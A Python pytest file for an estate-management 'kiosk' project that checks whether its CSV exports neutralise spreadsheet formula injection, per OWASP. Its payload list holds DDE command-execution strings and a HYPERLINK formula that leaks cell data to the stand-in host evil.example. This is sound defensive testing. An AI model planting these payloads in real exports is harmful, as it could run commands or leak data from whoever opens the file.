"""CSV injection (OWASP): every CSV the project writes neutralises a text cell that a
spreadsheet would run as a formula, and quotes it; numbers the program computed stay numbers."""

import csv
import io

import pytest

from kiosk.domain import csv_safe, disclosure, funding, plans, votes, vote_slips

from kiosk_process import run_kiosk
from votes.votes_helpers import ACTOR, make_estate

# OWASP "CSV Injection": the prefixes, each with a payload of the kind the page lists.
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")',
    # the full-width forms a Chinese input method types, which East Asian spreadsheets also run
    "＝1+1",
    "＋1+1",
    "－2+3",
    "＠SUM(1+1)",
    "\0=1+1",
]


def _written(rows) -> str:
    out = io.StringIO()
    csv_safe.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue()


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_each_formula_prefix_gets_a_quote_and_the_field_is_quoted(payload):
    text = _written([[payload, "张三"]])
    (row,) = list(csv.reader(io.StringIO(text, newline="")))
    assert row == ["'" + payload, "张三"]
    assert text.startswith("\"'")  # the neutralised field is wrapped in double quotes


@pytest.mark.parametrize("harmless", ["张三", "1号楼", "R-1", "'already quoted", "a=b", ""])
def test_text_that_starts_harmlessly_is_unchanged(harmless):
    (row,) = list(csv.reader(io.StringIO(_written([[harmless]]), newline="")))
    assert row == [harmless]


def test_computed_numbers_stay_numbers_but_text_that_looks_like_one_does_not():
    text = _written([[-500, 1200, 12.5, "-500", None, True]])
    assert text == "-500,1200,12.5,\"'-500\",\"\",\"True\"\n"


def test_the_disclosure_csv_neutralises_names_and_titles(db):
    from kiosk.domain import estates

    e = estates.add_estate(ACTOR, "=1+1小区")
    funding.create_project(ACTOR, e.id, "@SUM(A1)车棚", 1000_00)
    funding.create_project(ACTOR, e.id, "＝HYPERLINK(\"x\")路面", 1000_00)
    text = disclosure.to_csv(disclosure.collect(e.id))
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1][0] == "'=1+1小区" and {rows[1][2], rows[2][2]} == {"'@SUM(A1)车棚", "'＝HYPERLINK(\"x\")路面"}
    assert rows[1][4] == "100000"  # target_fen: a number, as before


def _hostile_estate():
    return make_estate("公式小区", [("=1号楼", "+1单元", "-101", 1, 80_00, "O1"), ("@2号楼", "1单元", "101", 1, 80_00, "O2")])


def test_vote_code_slips_neutralise_building_unit_and_room(db, tmp_path):
    estate_id, _ids = _hostile_estate()
    poll = votes.create_poll(ACTOR, estate_id, "路面", ["沥青", "水泥"])
    out = tmp_path / "codes.csv"
    assert vote_slips.write_slips(ACTOR, poll.id, str(out)) == 2
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline="")))
    cells = {c for row in rows[1:] for c in row[:3]}
    assert {"'=1号楼", "'+1单元", "'-101", "'@2号楼"} <= cells


def test_plan_codes_file_neutralises_building_unit_and_room(db, db_path, tmp_path):
    estate_id, _ids = _hostile_estate()
    project = funding.create_project(ACTOR, estate_id, "加装电梯", 1000_00)
    plan = plans.create_plan(ACTOR, project.id, title="一户一策", rate_fen_per_m2=100_00, low_floors=0)
    out = tmp_path / "plan.csv"
    r = run_kiosk("--db", db_path, "plan", "codes", str(plan.id), "--out", str(out))
    assert r.returncode == 0, r.stderr
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline="")))
    cells = {c for row in rows[1:] for c in row[:3]}
    assert {"'=1号楼", "'+1单元", "'-101", "'@2号楼"} <= cells
